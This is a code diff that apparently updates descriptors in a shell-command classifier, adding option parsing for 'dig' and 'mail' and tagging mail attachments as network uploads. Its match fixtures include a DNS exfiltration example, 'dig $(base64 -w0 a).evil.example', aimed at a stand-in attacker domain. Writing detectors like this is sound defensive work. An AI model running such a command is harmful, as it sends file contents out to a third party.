@@ -60,7 +60,7 @@ const socat = (): ProgramDescriptor => ({
 
 const lookUp = (): ProgramDescriptor => ({
   summary: 'asks name servers or hosts',
-  options: { '-t -c -p -x -b -k -y -f -i -w -W -n -R -s -I -m -M -l -q -T -v -a -4 -6': 'flag' },
+  options: { '-p': 'text', '-t -c -x -b -k -y -f -i -w -W -n -R -s -I -m -M -l -q -T -v -a -4 -6': 'flag' },
   operands: { rest: { as: 'url', method: 'dns' } },
   match: { 'dig $(base64 -w0 a).evil.example': 'network #uploads' },
   notMatch: { 'dig +short example.com': '* #uploads; unknown', 'ping -c 1 example.com': '* #uploads' },
@@ -91,13 +91,18 @@ const nmap = (): ProgramDescriptor => ({
 const mail = (): ProgramDescriptor => ({
   summary: 'sends mail',
   options: {
-    '-a -A --attach -i -s -c -b -r -S -q -f -H --subject --to --from --server --header --body -t': 'text',
+    '-a -A --attach --attachments --attach-body': 'text',
+    '-i -s -c -b -r -S -q -f -H --subject --to --from --server --header --body -t': 'text',
     '-n -v -e': 'flag',
   },
   inspect: call => ['-a'].flatMap(option => call.values(option).map(value => ({ use: 'read', value }) as const)),
   cases: [
     {
       when: { atLeast: 1 },
+      effects: [{ kind: 'network', target: 'network:upload', tags: ['uploads', 'shares', 'remote_change'] }],
+    },
+    {
+      when: { any: ['-a', '-i'] },
       effects: [{ kind: 'network', target: 'network:upload', tags: ['uploads', 'shares', 'remote_change'] }],
     },
   ],
